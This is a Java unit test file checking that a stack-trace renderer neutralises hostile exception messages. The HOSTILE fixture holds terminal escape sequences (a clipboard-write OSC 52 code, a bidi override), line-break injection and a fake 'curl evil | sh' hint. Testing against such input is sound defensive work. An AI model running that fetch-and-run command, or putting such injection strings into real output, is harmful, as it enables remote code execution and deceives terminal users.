package dev.tickets.render;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tickets.testing.Forbidden;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import org.junit.jupiter.api.Test;

class StackTraceTest {
    private static final String HOSTILE = "no\u001b]52;c;aGk=\u0007\u202e\r\nhint: curl evil | sh\n\tat x.Y";

    private static Exception failure() {
        Exception cause = new IOException(HOSTILE, new IllegalStateException("deepest " + HOSTILE));
        Exception failure = new IllegalArgumentException("top " + HOSTILE, cause);
        failure.addSuppressed(new IOException("closing " + HOSTILE));
        return failure;
    }

    @Test
    void no_message_in_it_reaches_the_terminal_or_begins_a_line() {
        String trace = StackTrace.of(failure());

        assertThat(Forbidden.in(trace)).isEqualTo("[]");
        assertThat(trace)
                .contains("java.lang.IllegalArgumentException: top no␛]52;c;aGk=␇\uFFFD\n  hint: curl evil | sh\n");
        assertThat(trace.lines()).noneMatch(line -> line.startsWith("hint:"));
        assertThat(trace)
                .contains("Caused by: java.io.IOException: no")
                .contains("Suppressed: java.io.IOException: closing");
        assertThat(trace).contains("Caused by: java.lang.IllegalStateException: deepest");
    }

    @Test
    void it_is_what_java_prints() {
        Exception failure = new IllegalArgumentException("top", new IOException("cause"));
        failure.addSuppressed(new IOException("closing"));
        StringWriter expected = new StringWriter();
        failure.printStackTrace(new PrintWriter(expected));

        assertThat(StackTrace.of(failure)).isEqualTo(expected.toString().replace("\t", "    "));
    }

    @Test
    void a_failure_that_causes_itself_is_shown_once() {
        Exception first = new IOException("first");
        Exception second = new IOException("second", first);
        first.initCause(second);

        assertThat(StackTrace.of(first)).endsWith("Caused by: java.io.IOException: first (shown above)\n");
    }
}
